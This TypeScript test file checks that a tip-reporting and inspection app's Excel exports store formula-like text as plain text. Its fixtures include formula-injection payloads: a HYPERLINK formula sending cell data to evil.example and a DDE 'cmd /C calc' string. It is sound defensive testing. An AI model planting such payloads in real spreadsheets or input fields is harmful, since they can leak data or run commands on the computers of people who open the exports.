import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, json, validTip, type TestApp } from './test/helpers.ts';

// Issue 7 fault 10: text starting with = + - @ (or tab/CR) went into exports verbatim, so a reporter's
// "=HYPERLINK(…)" became a live formula in the clerk's Excel. Every export now writes it as text.
const LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情") 有人上门推销保健品，说能治高血压';

describe('Excel exports keep formula-like text as text', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  const cells = async (payload: Buffer) => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(payload as unknown as ArrayBuffer);
    const out: unknown[] = [];
    book.worksheets[0].eachRow((row) => row.eachCell((c) => void out.push(c.value)));
    return out;
  };

  it('in the tip list', async () => {
    expect((await t.app.inject({ method: 'POST', url: '/api/public/tips', payload: validTip({ description: LINK }) })).statusCode).toBe(201);
    const res = await t.app.inject({ method: 'GET', url: `/api/tips/export?q=${encodeURIComponent('evil.example')}`, headers: { cookie: await t.login('lk_intake') } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['x-export-rows']).toBe('1');
    const values = await cells(res.rawPayload);
    expect(values).toContain(`'${LINK.slice(0, 80)}`);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
    expect(values.filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it('in the hazard ledger', async () => {
    const cookie = await t.login('lk_market_regulation');
    const subject = await t.app.inject({ method: 'POST', url: '/api/subjects', headers: { cookie: await t.login('lk_intake') }, payload: { regionCode: '370681', kind: 'elderly_care_institution', name: '龙口市康乐颐养中心' } });
    expect(subject.statusCode).toBe(201);
    const dangerous = ['+1+cmd|" /C calc"!A0 向老人收取会员费', '-2+3 预收床位费', '@SUM(1+1) 虚假宣传', '\t=1+1 隐患', '\r=1+1 隐患'];
    const inspection = await t.app.inject({
      method: 'POST', url: `/api/subjects/${json(subject).id}/inspections`, headers: { cookie },
      payload: {
        inspectedOn: new Date().toISOString().slice(0, 10), inspectors: 2, checklist: {}, findings: '现场检查',
        hazards: dangerous.map((description) => ({ description, category: 'prepaid', serious: false, measure: 'rectification_order', deadline: new Date(Date.now() + 10 * 86400_000).toISOString().slice(0, 10), responsible: '=院长 王某' })),
      },
    });
    expect(inspection.statusCode).toBe(201);
    const res = await t.app.inject({ method: 'GET', url: '/api/hazards/export', headers: { cookie: await t.login('lk_lead') } });
    expect(res.statusCode).toBe(200);
    const values = await cells(res.rawPayload);
    // The schema trims a leading tab or CR away; what remains starts with = and is neutralised too.
    for (const d of dangerous) expect(values).toContain(`'${d.trim()}`);
    expect(values).toContain("'=院长 王某");
    expect(values.filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });
});
